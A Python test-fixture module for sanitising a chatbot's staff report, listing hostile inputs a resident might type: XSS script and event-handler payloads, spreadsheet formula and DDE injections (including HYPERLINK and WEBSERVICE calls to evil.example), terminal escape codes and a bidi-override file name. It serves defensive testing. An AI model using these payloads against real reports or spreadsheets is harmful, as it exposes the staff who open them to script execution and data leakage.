"""What a resident could type to attack the staff who read `make report`, and what it must
look like in the report's files. Shared by tests/unit, tests/e2e and tests/browser."""

from __future__ import annotations

import re
from typing import List

# Through the input channel as typed: each one gets the fallback or out-of-scope answer, so
# the report lists it under "Vragen zonder antwoord".
TYPED: List[str] = [
    "<img src=x onerror=alert(1)><script>alert(2)</script>",
    '=HYPERLINK("http://evil.example/x","klik hier")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A1",
    "@SUM(1+9)*cmd|' /C notepad'!A0",
    '"></td></tr></table><svg onload=alert(3)><a href="javascript:alert(4)">klik</a>',
    'sleutel: "waarde" # geen commentaar',
    '- [qwerty](xyz) [abc]{"entity": "def"} [x]{geen json}',
]

# What the input channel would have removed, as in a store written before it did (or by
# another channel): terminal escape sequences, a faked report line, tab and carriage return
# at the start, a bidi override, Unicode line breaks and a lone surrogate.
RAW: List[str] = [
    "\x1b[2J\x1b]0;gehackt\x07rood\x1b[0m\nNoodgevallen herkend: 0",
    "\t=1+1 met een tab ervoor",
    "\r=2+2 met een carriage return ervoor",
    "bestand \u202egnp.exe",
    "regel een\u2028regel twee\x85regel drie",
    "half teken \ud800 hier",
]

# Thumbs-down "antwoord" a client sends itself (the widget sends the rated answer's text).
ANSWER = '=WEBSERVICE("http://evil.example/")<script>alert(5)</script>'

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def shown(text: str) -> str:
    """A hostile text as the report may show it: unsafe characters a space, whitespace collapsed."""
    return " ".join(_UNSAFE.sub(" ", text).split())
